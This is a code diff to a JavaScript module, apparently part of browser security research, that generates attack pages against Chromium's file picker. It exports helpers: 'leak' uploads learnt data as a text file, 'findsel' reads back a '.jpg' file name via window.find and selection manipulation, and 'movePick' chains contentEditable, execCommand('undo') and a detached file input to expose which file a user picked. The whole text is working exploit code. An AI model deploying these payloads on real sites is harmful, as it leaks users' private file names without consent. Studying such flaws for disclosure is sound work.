@@ -12,10 +12,10 @@
 import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
 
 /** Upload what was learnt (a name, or a bit) as a text note, once. */
-const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once52) { window.once52 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
+export const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once52) { window.once52 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
 
 /** attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read back. */
-const findsel = (why) => `const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
+export const findsel = (why) => `const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
         try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
         const got = String(sel); note('${why} ' + JSON.stringify(got));
         if (/jpg/i.test(got)) leak(got, '${why}');`;
@@ -25,9 +25,10 @@ const findsel = (why) => `const hit = window.find('.jpg'); const sel = getSelect
  * i is empty), then taken out by execCommand('delete') over a selection of the label (the undo step keeps p as the
  * parent to put it back in). `move` then moves p somewhere else (`setup` runs first). In the person's click the deep
  * span is clicked: Chromium's picker fills the detached i, unheard. On change: `before`, then execCommand('undo'),
- * whose input event Chromium fires at the undo step's recorded editing root(s), then findsel.
+ * whose input event Chromium fires at the undo step's recorded editing root(s), then `find` (findsel). `onopen`
+ * runs in the person's click, after the picker is asked for (attack 53 opens its popup there).
  */
-const movePick = (why, { setup = '', move = '', before = '', after = "for (const e of document.querySelectorAll('[contenteditable]')) e.contentEditable = 'false';", undo = "document.execCommand('undo')", find = findsel(why) } = {}) => `
+export const movePick = (why, { setup = '', move = '', before = '', after = "for (const e of document.querySelectorAll('[contenteditable]')) e.contentEditable = 'false';", undo = "document.execCommand('undo')", find = findsel(why), onopen = '' } = {}) => `
       ${leak}
       ${setup}
       const ce = document.createElement('div'); ce.contentEditable = 'true'; ce.style.width = '600px';
@@ -42,7 +43,7 @@ const movePick = (why, { setup = '', move = '', before = '', after = "for (const
       window.addEventListener('input', (e) => note('input ' + e.inputType + ' at ' + (e.target && (e.target.id || e.target.nodeName))), true);
       i.addEventListener('change', () => { note('change'); try { ${before}; const u = ${undo}; note('undo ' + u + ' i connected ' + i.isConnected + ' in ce ' + ce.contains(i) + ' w ' + i.offsetWidth); ${after} getSelection().removeAllRanges(); i.style.width = '600px';
         ${find} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
-      document.getElementById('open').addEventListener('click', () => { try { t.click(); } catch (e) { note('click threw ' + e.name); } });`;
+      document.getElementById('open').addEventListener('click', () => { try { t.click(); } catch (e) { note('click threw ' + e.name); } ${onopen} });`;
 
 const HTML_WAYS = {
   // p moved into a same-origin frame's editable body (adopted) before the pick: undo (the top document's) puts the
